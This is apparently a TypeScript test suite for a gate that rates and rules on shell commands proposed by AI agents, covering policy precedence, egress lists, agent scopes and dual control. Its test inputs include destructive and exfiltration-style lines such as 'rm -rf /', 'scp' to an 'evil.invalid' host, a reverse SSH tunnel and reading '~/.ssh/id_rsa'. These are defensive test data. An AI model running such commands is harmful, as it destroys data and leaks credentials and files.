// Who decides, in order: policies by their source, an agent's entry, templates, the tier's default; the strictest wins.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import * as fc from 'fast-check';
import { assess } from '../../../src/core/commands/assess.ts';
import { CAPABILITIES } from '../../../src/core/commands/registry.ts';
import { type Judgement, judge } from '../../../src/core/gate/judge.ts';
import { rulingsFor } from '../../../src/core/gate/rulings.ts';
import { VERDICTS } from '../../../src/core/model/verdict.ts';
import { type GatePolicy, unreadGatePolicy } from '../../../src/core/policy/gate-policy.ts';
import type { PolicySource } from '../../../src/core/policy/policy.ts';
import { readGatePolicy } from '../../../src/core/policy/read-gate-policy.ts';
import { PLACE } from '../../support/place.ts';

const FACTS = { capabilities: CAPABILITIES };
const policy = (value: unknown, source: PolicySource = 'user'): GatePolicy =>
  readGatePolicy('gatehouse.jsonc', typeof value === 'string' ? value : JSON.stringify(value), source, FACTS).policy;

const judged = (line: string, policies: readonly GatePolicy[], agentId?: string, today = '2026-11-21'): Judgement => {
  const assessment = assess({ line, shell: 'bash' }, PLACE);
  return judge(assessment, rulingsFor({ assessment, policies, surroundings: PLACE, agentId, today }));
};
const verdictOf = (...call: Parameters<typeof judged>) => judged(...call).verdict;

describe('rulingsFor', () => {
  it('passes ordinary work by shipped templates and says so', () => {
    assert.deepEqual(judged('echo x > a.txt && git add a.txt', []), {
      tier: 2,
      verdict: 'allow',
      reason:
        'This command writes files and changes the repository. Passed by the templates workspace-writes and commits.',
      safer: 'Write to a new file and look at the difference.',
      people: 1,
      exchange: undefined,
    });
    assert.equal(verdictOf('rm -rf /', []), 'ask');
    assert.equal(verdictOf('', []), 'ask');
  });

  it('follows the user, who may switch off, add and move tiers', () => {
    const user = policy({
      templates: { 'lockfile-installs': false, mine: { commands: ['sometool **'], reason: 'Known to the team' } },
      tiers: { 'post-as-user': 3, 'outside-write': 2 },
    });
    assert.equal(verdictOf('npm ci', [user]), 'ask');
    assert.equal(verdictOf('sometool x', [user]), 'allow');
    assert.equal(judged('gh pr comment 1 --body x', [user]).tier, 3);
    assert.equal(judged('echo x > /opt/x', []).tier, 3);
    assert.equal(judged('echo x > /opt/x', [user]).tier, 2);
    assert.equal(judged('echo x > /opt/x; $Y', [user]).tier, 3);
  });

  it('lets the workspace tighten what the user loosened, and nothing else', () => {
    const user = policy({ tiers: { 'outside-write': 2 }, egress: ['a.invalid', 'b.invalid'] });
    const workspace = policy(
      { tiers: { 'outside-write': 3 }, templates: { commits: false }, egress: ['b.invalid', 'c.invalid'] },
      'workspace',
    );
    assert.equal(judged('echo x > /opt/x', [user, workspace]).tier, 3);
    assert.equal(verdictOf('git commit -m x', [user, workspace]), 'ask');
    const tiers = ['a', 'b', 'c'].map((name) => judged(`curl https://${name}.invalid`, [user, workspace]).tier);
    assert.deepEqual(tiers, [3, 2, 3]);
  });

  it('raises what talks to other hosts, known or not', () => {
    const user = policy({ egress: ['registry.invalid'] });
    for (const line of [
      'curl https://evil.invalid',
      'curl "$X"',
      'ping evil.invalid',
      'scp a me@evil.invalid:',
      'git clone https://evil.invalid/x',
    ])
      assert.equal(judged(line, [user]).tier, 3, line);
    for (const line of [
      'curl https://registry.invalid/x',
      'curl http://localhost:1/',
      'ls',
      'npm ci',
      'grep https://evil.invalid a',
    ])
      assert.ok(judged(line, [user]).tier < 3, line);
    assert.match(
      judged('curl https://evil.invalid', [user]).reason,
      /does not list the host “evil\.invalid” under "egress"/,
    );
  });

  it('gives agents that are not listed tier 1 and nothing else', () => {
    const user = policy({ agents: { known: { owner: 'me', purpose: 'work', expires: '2026-11-21' } } });
    assert.equal(verdictOf('ls', [user], 'other'), 'allow');
    assert.equal(verdictOf('echo x > a.txt', [user], 'other'), 'deny');
    assert.equal(verdictOf('echo x > a.txt', [user], 'known'), 'allow');
    assert.equal(verdictOf('echo x > a.txt', [user], 'known', '2026-11-22'), 'deny');
    assert.equal(verdictOf('echo x > a.txt', [user], '__proto__'), 'deny');
    assert.equal(verdictOf('echo x > a.txt', [user]), 'allow');
  });

  it('denies an agent what lies beyond its entry, and passes nothing because of it', () => {
    const user = policy({
      agents: {
        a: {
          owner: 'me',
          purpose: 'x',
          folders: ['~/proj'],
          hosts: ['ok.invalid'],
          capabilities: ['local-write', 'network-fetch'],
        },
        b: { owner: 'me', purpose: 'x', folders: ['/elsewhere'] },
        c: { owner: 'me', purpose: 'x', folders: ['~/proj/sub', '~/proj/'] },
      },
    });
    assert.equal(verdictOf('echo x > a.txt', [user], 'a'), 'allow');
    assert.equal(verdictOf('curl https://ok.invalid', [user], 'a'), 'ask');
    for (const line of [
      'rm a.txt',
      'curl https://evil.invalid',
      'curl "$X"',
      'cd / && ls',
      'echo x > "$X"',
      'echo x > /tmp/x',
    ])
      assert.equal(verdictOf(line, [user], 'a'), 'deny', line);
    assert.equal(verdictOf('ls', [user], 'b'), 'deny');
    assert.equal(verdictOf('find . -name x -delete', [user], 'c'), 'deny');
    assert.equal(verdictOf('rm x', [user], 'c'), 'ask');
  });

  it('asks for what takes two people at tier 3, whatever a template says, and names whom to turn to', () => {
    const user = policy({ dualControl: ['publish', 'vcs-write'], contacts: ['the release team'] });
    const { verdict, reason, people } = judged('npm publish', [user]);
    assert.deepEqual([verdict, people], ['ask', 2]);
    assert.match(reason, /The policy wants two people to sign for publish\. Turn to the release team\./);
    const commit = judged('git commit -m x', [user]);
    assert.deepEqual([commit.verdict, commit.tier, commit.people], ['ask', 3, 2]);
    assert.deepEqual([judged('ls', [user]).people, judged('npm ci', [user]).people], [1, 1]);
  });

  it('takes the most people that any policy wants', () => {
    const user = policy({ dualControl: { capabilities: ['publish', 'vcs-write'], people: 3, folder: '/srv/x' } });
    const workspace = policy({ dualControl: ['publish', 'package-install'] }, 'workspace');
    const asked = (line: string) => judged(line, [user, workspace]);
    assert.deepEqual([asked('npm publish').people, asked('npm publish').exchange], [3, '/srv/x']);
    assert.deepEqual([asked('npm install x').people, asked('npm install x').exchange], [2, '/srv/x']);
    assert.deepEqual([asked('git commit -m x').people, asked('ls').people, asked('ls').exchange], [3, 1, undefined]);
  });

  it('passes nothing by template where a policy is broken or cannot be read', () => {
    for (const broken of [
      policy('{'),
      policy('{', 'workspace'),
      unreadGatePolicy('user'),
      unreadGatePolicy('workspace'),
    ]) {
      assert.equal(verdictOf('ls', [broken]), 'allow');
      assert.equal(verdictOf('npm ci', [broken]), 'ask');
      assert.match(judged('npm ci', [broken]).reason, /A policy file is broken/);
    }
  });
});

const LINES = [
  'ls',
  'echo x > a.txt',
  'echo x > /opt/x',
  'npm ci',
  'npm install x',
  'git commit -m x',
  'rm -rf dist',
  'curl https://a.invalid',
  'curl "$X"',
  'sometool x',
  'npm publish',
  'ssh -R 1:localhost:1 a.invalid',
  'cat ~/.ssh/id_rsa',
  '$X',
  '',
];
const strictness = (line: string, policies: readonly GatePolicy[]): number => {
  const { verdict, people, tier } = judged(line, policies, 'agent');
  return VERDICTS.indexOf(verdict) * 100 + people * 10 + tier;
};

const FULL = {
  templates: {
    commits: false,
    mine: {
      commands: ['sometool **'],
      capabilities: ['local-write'],
      paths: ['**'],
      hosts: ['a.invalid'],
      reason: 'Known to the team',
    },
  },
  tiers: { 'outside-write': 2, 'local-write': 3, publish: 2 },
  agents: {
    agent: {
      owner: 'me',
      purpose: 'work',
      folders: ['~/proj'],
      hosts: ['a.invalid'],
      capabilities: ['local-write'],
      expires: '2027-01-01',
    },
  },
  dualControl: { capabilities: ['publish', 'local-write'], people: 3, folder: '~/exchange' },
  egress: ['a.invalid'],
  contacts: ['me'],
};

describe('a mistake', () => {
  const texts = [
    JSON.stringify(FULL),
    readFileSync('media/policies/permissive.jsonc', 'utf8'),
    readFileSync('media/policies/strict.jsonc', 'utf8'),
  ];
  const mutated = fc
    .tuple(
      fc.constantFrom(...texts),
      fc.nat(),
      fc.nat({ max: 30 }),
      fc.oneof(fc.string({ maxLength: 8 }), fc.constantFrom('"', '{', '}', ',', '"x":1,', 'false', '//')),
    )
    .map(([text, at, length, put]) => text.slice(0, at % text.length) + put + text.slice((at % text.length) + length));

  it('in a workspace policy never makes anything more permissive than no policy', () => {
    fc.assert(
      fc.property(mutated, fc.constantFrom(...LINES), (text, line) => {
        assert.ok(strictness(line, [policy(text, 'workspace')]) >= strictness(line, []), `${line}\n${text}`);
      }),
      { numRuns: 400 },
    );
  });

  it('in a user policy never makes anything more permissive than the policy without that entry', () => {
    type Place = readonly (string | number)[];
    const places = placesIn(FULL);
    const junk = fc.oneof(
      fc.constantFrom(null, 1, '', 'x', [], {}, true, [null], ['**', 1], { x: 1 }),
      fc.jsonValue({ maxDepth: 2 }),
    );
    fc.assert(
      fc.property(fc.constantFrom<Place>(...places), junk, fc.constantFrom(...LINES), (place, value, line) => {
        const broken = readGatePolicy('p', JSON.stringify(changed(FULL, place, value)), 'user', FACTS);
        // What is no mistake is what somebody wanted.
        if (broken.problems.length === 0) return;
        // The entry is the whole of a template, an agent or a list item: what stands directly below a key of the policy.
        const without = policy(changed(FULL, place.slice(0, 2), undefined));
        assert.ok(
          strictness(line, [broken.policy]) >= strictness(line, [without]),
          `${line} ${place.join('.')} ${JSON.stringify(value)}`,
        );
      }),
      { numRuns: 600 },
    );
  });
});

function placesIn(value: unknown, at: readonly (string | number)[] = []): readonly (readonly (string | number)[])[] {
  if (typeof value !== 'object' || value === null) return at.length > 0 ? [at] : [];
  const keys = Array.isArray(value) ? [...value.keys()] : Object.keys(value);
  const below = keys.flatMap((key) => placesIn((value as Record<string | number, unknown>)[key], [...at, key]));
  return at.length > 0 ? [at, ...below] : below;
}

/** A copy with another value at a place; undefined takes the entry away. */
function changed(value: unknown, [key, ...rest]: readonly (string | number)[], put: unknown): unknown {
  if (key === undefined) return put;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<string | number, unknown>;
  const next = changed(copy[key], rest, put);
  if (next !== undefined) copy[key] = next;
  else if (Array.isArray(copy)) copy.splice(Number(key), 1);
  else delete copy[key];
  return copy;
}
